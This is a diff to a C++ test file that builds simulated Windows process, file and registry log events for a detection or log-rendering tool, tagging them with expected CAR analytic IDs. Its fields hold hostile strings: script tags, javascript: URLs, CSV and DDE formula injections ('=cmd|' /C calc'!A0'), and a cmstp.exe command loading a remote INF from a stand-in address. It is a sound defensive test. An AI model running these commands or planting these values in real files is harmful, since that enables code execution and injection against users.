@@ -56,8 +56,11 @@ std::vector<scenario_record> hostile_strings() {
     hostile_log log(to_filetime({2026, 6, 1, 15, 0, 0, 0}));
     log.start("C:\\Users\\Public\\" + std::string(script_tag) + ".exe", std::string("payload.exe ") + script_tag,
               "script tag in image, command line and current directory; img tag in the user name");
+    // The CAR catalogue's analytics fire on these too: cmd.exe started (CAR-2013-02-003), " a " and
+    // PowerShell not started by explorer.exe, whoami, an address on a command line.
+    const std::vector<std::string> cmd_started = {"CAR-2013-02-003:pseudocode"};
     log.start("C:\\Windows\\System32\\cmd.exe", std::string("cmd.exe /c echo ") + closing_script,
-              "closing script tag in a command line");
+              "closing script tag in a command line", cmd_started);
     log.start("C:\\Program Files\\Example\\browser.exe",
               std::string("\"C:\\Program Files\\Example\\browser.exe\" ") + javascript_url,
               "javascript: URL in a command line");
@@ -72,12 +75,13 @@ std::vector<scenario_record> hostile_strings() {
         {"\t=1+1", "CSV formula behind a leading tab"},
         {"\r=1+1", "CSV formula behind a leading carriage return"},
     };
-    for (const auto& [command_line, why] : formulas) log.start("C:\\Windows\\System32\\cmd.exe", command_line, why);
+    for (const auto& [command_line, why] : formulas) log.start("C:\\Windows\\System32\\cmd.exe", command_line, why, cmd_started);
     const logon_session formula_user = {"CORP\\=HYPERLINK(\"http://203.0.113.9\",\"click\")", 0x7C09, 1, "Medium"};
     log.start("C:\\Windows\\System32\\notepad.exe", "notepad.exe", "CSV formula in the user name", {}, &formula_user);
     log.start("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
               "powershell -c \"Write-Host \\\"a, b\\\"; 'c, d'\"\r\nsecond line, with a comma\nthird \"line\"",
-              "quotes, commas, CR LF and LF in a command line");
+              "quotes, commas, CR LF and LF in a command line",
+              {"CAR-2013-07-001:pseudocode", "CAR-2013-07-005:pseudocode", "CAR-2014-04-003:pseudocode"});
     const sysmon_process writer = log.start("C:\\Windows\\System32\\notepad.exe", "notepad.exe", "a file writer");
     log.add(
         sysmon_file_create(hostile01, log.advance(), writer, std::string("C:\\Users\\Public\\") + image_tag + ".txt"),
@@ -85,14 +89,15 @@ std::vector<scenario_record> hostile_strings() {
     log.add(sysmon_registry_value(hostile01, log.advance(), writer,
                                   "HKU\\S-1-5-21-1-2-3-1001\\Software\\\"quoted\", <key>\\Run\\x", javascript_url),
             "quotes, comma and angle brackets in a registry path; javascript: URL as its value");
-    log.start("C:\\Windows\\System32\\whoami.exe", "whoami.exe", "markup in the computer name", {}, nullptr,
-              hostile_name);
+    log.start("C:\\Windows\\System32\\whoami.exe", "whoami.exe", "markup in the computer name",
+              {"CAR-2016-03-001:pseudocode"}, nullptr, hostile_name);
 
     // A detection whose every shown field is hostile.
     const std::string inf_url = "https://203.0.113.9/" + std::string(script_tag) + ".inf";
     const sysmon_process cmstp = log.start("C:\\Windows\\System32\\cmstp.exe",
                                            "C:\\Windows\\System32\\cmstp.exe /ni /s " + inf_url + " =cmd|' /C calc'!A0",
-                                           "cmstp.exe with a hostile remote INF URL", {detection_cmdline_url});
+                                           "cmstp.exe with a hostile remote INF URL",
+                                           {detection_cmdline_url, "CAR-2013-07-001:ip-address"});
     network_connection c;
     c.initiated = true;
     c.source_ip = hostile01.address;
